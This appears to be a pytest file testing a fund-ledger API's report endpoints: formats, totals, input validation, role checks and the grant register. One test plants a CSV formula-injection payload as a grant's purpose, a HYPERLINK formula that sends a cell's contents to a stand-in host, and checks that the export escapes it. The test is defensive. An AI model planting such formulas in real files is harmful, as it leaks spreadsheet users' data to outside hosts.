"""GET /api/v1/reports/{name}: every report as JSON, CSV and PDF for the books' readers; bad input is a
problem+json naming the field, never a 500."""
from __future__ import annotations

import csv
import io

import pytest

from fund_ledger.ledger.money import parse_amount
from fund_ledger.reports.catalogue import REPORTS

QUERIES = {"fund-statement": "fund_id=2", "account-ledger": "account=1002"}


@pytest.fixture
def auditor(client, api_token):
    headers = {"Authorization": f"Bearer {api_token('auditor')}"}
    return lambda url: client.get(url, headers=headers)


def test_every_report_in_every_format(auditor):
    for name in REPORTS:
        query = QUERIES.get(name, "")
        r = auditor(f"/api/v1/reports/{name}?{query}")
        assert r.status_code == 200, (name, r.get_json())
        body = r.get_json()
        assert body["report"] == name and body["ledger"]["entries"] == 12
        r = auditor(f"/api/v1/reports/{name}?{query}&format=csv")
        assert r.status_code == 200 and r.mimetype == "text/csv" and "attachment" in r.headers["Content-Disposition"]
        assert list(csv.reader(io.StringIO(r.get_data(as_text=True))))[0]
    r = auditor("/api/v1/reports/activities?format=pdf")
    assert r.status_code == 200 and r.mimetype == "application/pdf" and r.data.startswith(b"%PDF")


def test_json_agrees_with_the_trial_balance(auditor):
    fp = auditor("/api/v1/reports/financial-position?as_of=2026-11-27").get_json()
    tb = auditor("/api/v1/reports/trial-balance?as_of=2026-11-27").get_json()
    lines = {x["line"]: x for x in fp["lines"]}
    assets = sum(parse_amount(a["balance"], allow_zero=True, allow_negative=True) for a in tb["accounts"] if a["type"] == "asset")
    assert parse_amount(lines["assets"]["end"]) == assets == parse_amount(lines["liabilities_and_net_assets"]["end"])
    act = {x["line"]: x for x in auditor("/api/v1/reports/activities?from=2026-01-01&to=2026-11-27").get_json()["lines"]}
    assert act["net_change"]["total"] == lines["net_assets"]["end"]  # nothing before 2026 in the demo
    assert act["release"]["total"] == "0.00"


@pytest.mark.parametrize("url, status, field", [
    ("/api/v1/reports/activities?from=2026-12-01&to=2026-01-01", 400, "from"),
    ("/api/v1/reports/activities?from=2026-02-30", 400, "from"),
    ("/api/v1/reports/trial-balance?as_of=yesterday", 400, "as_of"),
    ("/api/v1/reports/trial-balance?fund_id=1", 400, "fund_id"),
    ("/api/v1/reports/trial-balance?from=2026-01-01", 400, "from"),
    ("/api/v1/reports/activities?as_of=2026-01-01", 400, "as_of"),
    ("/api/v1/reports/fund-statement", 400, "fund_id"),
    ("/api/v1/reports/fund-statement?fund_id=999", 404, "fund_id"),
    ("/api/v1/reports/fund-statement?fund_id=99999999999", 400, "fund_id"),
    ("/api/v1/reports/fund-statement?fund_id=abc", 400, "fund_id"),
    ("/api/v1/reports/account-ledger", 400, "account"),
    ("/api/v1/reports/account-ledger?account=9999", 404, "account"),
    ("/api/v1/reports/activities?format=xlsx", 400, "format"),
    ("/api/v1/reports/financial-position?as_of=0001-01-01", 400, "as_of"),
    ("/api/v1/reports/balance-sheet", 404, "name"),
])
def test_bad_input_is_a_problem_naming_the_field(auditor, url, status, field):
    r = auditor(url)
    assert r.status_code == status and r.mimetype == "application/problem+json", r.get_data(as_text=True)
    assert field in r.get_json()["errors"]


def test_only_the_books_readers(client, api_token):
    assert client.get("/api/v1/reports/activities").status_code == 401
    r = client.get("/api/v1/reports/activities", headers={"Authorization": f"Bearer {api_token('zhuren')}"})
    assert r.status_code == 403
    r = client.get("/api/v1/reports/activities", headers={"Authorization": f"Bearer {api_token('manager')}"})
    assert r.status_code == 200


def test_the_grant_register_follows_each_request_to_its_use_report(client, auditor, api_token):
    """Requested, approved, paid, acknowledged, reported: each step's date, and what came back to the fund."""
    from fund_ledger.clock import local_today

    today = local_today().isoformat()
    manager2 = {"Authorization": f"Bearer {api_token('manager2')}"}
    before = auditor(f"/api/v1/reports/grant-register?from=2026-01-01&to={today}").get_json()
    first = next(g for g in before["grants"] if g["id"] == 1)
    assert (first["status"], first["requested"], first["approved"], first["paid"]) == (
        "acknowledged", "30000.00", "30000.00", "30000.00")
    assert first["paid_on"] == "2026-10-20" and first["acknowledged_on"] == "2026-10-21"
    assert first["reported_on"] is None and first["returned"] == "0.00"  # the demo's report waits for review
    waiting = next(g for g in before["grants"] if g["status"] == "submitted")
    assert waiting["approved"] == waiting["paid"] == "0.00" and waiting["approved_on"] is None

    assert client.post("/api/v1/disbursements/1/report/receive", headers=manager2, json={}).status_code == 200
    after = auditor(f"/api/v1/reports/grant-register?from=2026-01-01&to={today}").get_json()
    assert next(g for g in after["grants"] if g["id"] == 1)["reported_on"] == today
    assert parse_amount(after["paid"]) == sum(parse_amount(g["paid"], allow_zero=True) for g in after["grants"])
    rows = list(csv.DictReader(io.StringIO(auditor(
        f"/api/v1/reports/grant-register?from=2026-01-01&to={today}&format=csv").get_data(as_text=True))))
    assert [(r["id"], r["reported_on"], r["returned"]) for r in rows if r["id"] == "1"] == [("1", today, "0.00")]


def test_report_csvs_never_hand_a_spreadsheet_a_formula(client, auditor, api_token):
    """A grantee types a purpose that Excel or WPS would run; the register's CSV gives it as text."""
    from fund_ledger.clock import local_today

    zhuren = {"Authorization": f"Bearer {api_token('zhuren')}"}
    funds = client.get("/api/v1/funds", headers=zhuren).get_json()["items"]
    orgs = auditor("/api/v1/organisations").get_json()["items"]
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"点击")'
    created = client.post("/api/v1/disbursements", headers=zhuren, json={
        "organisation_id": next(o["id"] for o in orgs if o["name"] == "筑仁成长公益服务中心"),
        "fund_id": next(f["id"] for f in funds if f["code"] == "AILILIANG"), "amount": "100.00", "purpose": evil})
    assert created.status_code == 201, created.get_json()
    today = local_today().isoformat()
    rows = list(csv.DictReader(io.StringIO(auditor(
        f"/api/v1/reports/grant-register?from=2026-01-01&to={today}&format=csv").get_data(as_text=True))))
    assert [r["purpose"] for r in rows if r["id"] == str(created.get_json()["id"])] == ["'" + evil]
    assert all(not r["requested"].startswith("'") for r in rows)  # our own numbers stay numbers
